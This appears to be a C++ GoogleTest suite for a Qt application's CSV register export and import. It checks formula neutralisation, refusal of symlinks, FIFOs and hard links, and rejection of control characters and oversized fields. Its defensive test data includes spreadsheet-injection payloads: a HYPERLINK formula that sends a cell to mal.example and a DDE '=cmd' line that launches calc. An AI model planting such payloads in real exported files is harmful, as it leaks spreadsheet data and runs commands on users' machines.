// Register files (--export / --import) handed to a spreadsheet or prepared by a hostile user:
// formulas neutralised and read back as typed, nothing but the folder's own regular files
// read, no other file's text in a fault, control characters refused, reading bounded.
#include <QDir>
#include <QFile>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <gtest/gtest.h>
#include <functional>
#include <sys/stat.h>
#include <unistd.h>

#include "server/migrations/migrations.h"
#include "server/registers/csv_file.h"
#include "server/registers/register_export.h"
#include "server/registers/register_import.h"
#include "server/registers/spreadsheet_guard.h"
#include "server/storage/database.h"

using namespace cot::server;
using namespace cot::server::registers;

namespace {

// Values a hostile user types into a name or a text, and texts that merely look like them.
const QStringList kTricky{"=HYPERLINK(\"http://mal.example/?\"&A1;\"Clique\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=",
                          "-", "'", "''", "'abc", "'=1+1", "''-x", "'@", "a=b", "Ação; \"citação\"", "", " =1"};
const QStringList kTrickyLines{"\t=1", "\r\n=cmd|' /C calc'!A0", "'\tx", "linha 1\n\tlinha 2"};

template <size_t N>
QByteArray raw(const char (&text)[N]) {
    return QByteArray(text, N - 1);  // NULs included
}

class RegisterFiles : public ::testing::Test {
protected:
    std::unique_ptr<Database> openDb(const char* name) {
        auto db = Database::open("sqlite:" + dir_.filePath(name));
        migrate(*db);
        return db;
    }
    QString folder(const char* name) {
        const QString path = dir_.filePath(name);
        QDir().mkpath(path);
        return path;
    }
    static void write(const QString& path, const QByteArray& text) {
        QFile f(path);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        ASSERT_EQ(f.write(text), text.size());
    }
    static qint64 bytesReadByProcess() {
        QFile io("/proc/self/io");
        for (const QByteArray& line : io.open(QIODevice::ReadOnly) ? io.readAll().split('\n') : QList<QByteArray>())
            if (line.startsWith("rchar:")) return line.mid(6).trimmed().toLongLong();
        return 0;  // not counted here: no bound to check
    }

    QTemporaryDir dir_;
};

// The guard writes one quote more only before what a spreadsheet takes for a formula.
TEST_F(RegisterFiles, FormulasAreNeutralisedOnExportAndReadBackExactly) {
    const QList<std::pair<QString, QString>> guarded{{"=1", "'=1"},   {"-5", "'-5"},   {"'=1", "''=1"}, {"''@", "'''@"},
                                                     {"\tx", "'\tx"}, {"'abc", "'abc"}, {"'", "'"},     {"a-b", "a-b"}};
    for (const auto& [text, written] : guarded)
        EXPECT_EQ(std::pair(guardedText(text), unguardedText(written)), std::pair(written, text)) << text.toStdString();

    auto source = openDb("origem.db");
    source->exec("INSERT INTO IDIOMA (IDIDIOMA, NMIDIOMA) VALUES ('POR', 'Português')");
    const QStringList texts = kTricky + kTrickyLines;
    const auto key = [](char kind, int i) { return QString("%1%2").arg(kind).arg(i, 2, 10, QChar('0')); };
    for (int i = 0; i < kTricky.size(); ++i)
        source->exec("INSERT INTO CLIENTE (CDCLIENTE, NRINSJURCLIE, IDTPIJURCLIE, NMFANTCLIE, NMRAZSOCCLIE) VALUES (:K, '1', 'F', :N, :N)",
                     {{"K", key('C', i)}, {"N", kTricky[i]}});
    for (int i = 0; i < texts.size(); ++i)
        source->exec("INSERT INTO PADTXT (CDPADTXT, IDTIPOPROPFAS, IDIDIOMA, NRORDEMPADTXT, TXPADTXT) VALUES (:K, 'M', 'POR', -5, :T)",
                     {{"K", key('T', i)}, {"T", texts[i]}});
    source->exec("INSERT INTO TIPOSERV (CDTIPOSERV, NMTIPOSERV, VRHORAPADR) VALUES ('001', '-Desconto', -12.5)");

    const QString out = dir_.filePath("saida");
    const ExportResult exported = exportRegisters(*source, out);
    ASSERT_TRUE(exported.ok()) << exported.error.toStdString();
    // No text field a spreadsheet would open as a formula; numbers stay numbers.
    for (const char* name : {"cliente.csv", "padtxt.csv", "tiposerv.csv"}) {
        QFile file(QDir(out).filePath(name));
        ASSERT_TRUE(file.open(QIODevice::ReadOnly));
        CsvReader reader(file);
        CsvRecord record;
        while (reader.next(record))
            for (const CsvField& f : record.fields)
                EXPECT_FALSE(f.text.contains(QRegularExpression("^[=+@\t\r]|^-(?![0-9.]+$)"))) << name << ": " << f.text.toStdString();
        EXPECT_FALSE(reader.failed());
    }
    QFile services(QDir(out).filePath("tiposerv.csv"));
    const QByteArray servicesText = services.open(QIODevice::ReadOnly) ? services.readAll() : QByteArray();
    EXPECT_TRUE(servicesText.contains("001;'-Desconto;") && servicesText.contains(";-12.5\n")) << servicesText.toStdString();

    auto target = openDb("destino.db");
    const ImportResult imported = importRegisters(*target, out);
    ASSERT_TRUE(imported.ok()) << imported.errors.join('\n').toStdString();
    const auto read = [&](const char* sql) {
        QStringList out;
        for (const QVariantList& row : target->query(sql).rows) out << row[0].toString();
        return out;
    };
    EXPECT_EQ(read("SELECT NMFANTCLIE FROM CLIENTE ORDER BY CDCLIENTE"), kTricky);
    EXPECT_EQ(read("SELECT NMRAZSOCCLIE FROM CLIENTE ORDER BY CDCLIENTE"), kTricky);
    EXPECT_EQ(read("SELECT TXPADTXT FROM PADTXT ORDER BY CDPADTXT"), texts);
    EXPECT_EQ(target->scalar("SELECT NRORDEMPADTXT FROM PADTXT WHERE CDPADTXT = 'T00'").toInt(), -5);
}

// A register's name that is not the folder's own regular file is refused unread, and a
// faulty file's text never shows in the faults.
TEST_F(RegisterFiles, OnlyTheFoldersOwnRegularFilesAreReadAndNoOtherTextShows) {
    QFile passwd("/etc/passwd");
    const QByteArray passwdText = passwd.open(QIODevice::ReadOnly) ? passwd.readAll() : QByteArray();
    ASSERT_TRUE(passwdText.contains("root"));
    const QString elsewhere = dir_.filePath("fora.csv");
    write(elsewhere, "CDOPERADOR;NMOPERADOR\nHACK;Hack\n");
    const QList<std::pair<const char*, std::function<void(const QString&)>>> cases{
        {"link simbólico", [](const QString& p) { ASSERT_TRUE(QFile::link("/etc/passwd", p)); }},
        {"pasta", [](const QString& p) { ASSERT_TRUE(QDir().mkdir(p)); }},
        {"FIFO", [](const QString& p) { ASSERT_EQ(::mkfifo(QFile::encodeName(p).constData(), 0600), 0); }},
        {"links físicos", [&](const QString& p) { ASSERT_EQ(::link(QFile::encodeName(elsewhere), QFile::encodeName(p)), 0); }},
        {"coluna desconhecida", [&](const QString& p) { write(p, passwdText); }},
    };
    auto db = openDb("cot.db");
    for (const auto& [expected, make] : cases) {
        const QString in = folder(expected);
        make(QDir(in).filePath("operador.csv"));
        const ImportResult r = importRegisters(*db, in);
        const QString all = r.errors.join('\n');
        EXPECT_FALSE(r.ok()) << expected;
        EXPECT_TRUE(all.startsWith("operador.csv:") && all.contains(QString::fromUtf8(expected))) << all.toStdString();
        EXPECT_FALSE(all.contains("root") || all.contains("HACK")) << all.toStdString();
    }
    EXPECT_EQ(db->scalar("SELECT COUNT(*) FROM OPERADOR").toInt(), 0);

    // A name that is no register is named in the fault, its control characters left out.
    const QString odd = folder("nomes");
    write(QDir(odd).filePath("\x1b]0;x\a.csv"), "CDOPERADOR;NMOPERADOR\n");
    const QString fault = importRegisters(*db, odd).errors.join('\n');
    EXPECT_TRUE(fault.startsWith("?]0;x?.csv: não é um arquivo de cadastro") && !fault.contains('\n')) << fault.toStdString();
}

TEST_F(RegisterFiles, ControlCharactersAndHugeFieldsAreRefusedAndTheRefusedTextIsNotRepeated) {
    const QList<std::tuple<const char*, QByteArray, const char*>> cases{
        {"operador.csv", raw("CDOPERADOR;NMOPERADOR\nMARIA;\"Ma\0segredo\"\n"),
         "NMOPERADOR: caractere nulo (NUL) no texto"},
        {"operador.csv", "CDOPERADOR;NMOPERADOR\nMARIA;\"Ma\nria\"\n",
         "NMOPERADOR: caractere de controle U+000A no texto (nomes e códigos não aceitam tabulação nem quebra de linha)"},
        {"operador.csv", "CDOPERADOR;NMOPERADOR\nMA\tRIA;Maria\n",
         "CDOPERADOR: caractere de controle U+0009 no texto (nomes e códigos não aceitam tabulação nem quebra de linha)"},
        {"operador.csv", "CDOPERADOR;NMOPERADOR;IDOPERATIVO\nMARIA;Maria;Z\n",
         "IDOPERATIVO: valor inválido (use A, I)"},
        {"padtxt.csv", raw("CDPADTXT;IDTIPOPROPFAS;IDIDIOMA;TXPADTXT\nT;M;POR;\"a\0segredo\"\n"),
         "TXPADTXT: caractere nulo (NUL) no texto"},
    };
    auto db = openDb("cot.db");
    db->exec("INSERT INTO IDIOMA (IDIDIOMA, NMIDIOMA) VALUES ('POR', 'Português')");
    for (const auto& [file, text, expected] : cases) {
        const QString in = folder("controle");
        write(QDir(in).filePath(file), text);
        const ImportResult r = importRegisters(*db, in);
        EXPECT_EQ(r.errors, QStringList{QString(file) + ":2: " + QString::fromUtf8(expected)}) << r.errors.join('\n').toStdString();
        EXPECT_FALSE(r.errors.join('\n').contains("segredo"));
        QFile::remove(QDir(in).filePath(file));
    }

    // A 50 MB field (a sparse file: nothing written to disk) is refused a little past its
    // column's size, the rest of the file never read.
    const QString in = folder("grande");
    const QString path = QDir(in).filePath("operador.csv");
    write(path, "CDOPERADOR;NMOPERADOR\nMARIA;Maria\nJOSE;");
    ASSERT_EQ(::truncate(QFile::encodeName(path).constData(), 50 << 20), 0);
    const qint64 before = bytesReadByProcess();
    EXPECT_EQ(importRegisters(*db, in).errors,
              QStringList{"operador.csv:3: NMOPERADOR: campo com mais de 1041 caracteres; o resto do arquivo não foi lido"});
    EXPECT_LT(bytesReadByProcess() - before, 4 << 20) << "the file was read on";
    EXPECT_EQ(db->scalar("SELECT COUNT(*) FROM OPERADOR").toInt(), 0);
}

}  // namespace
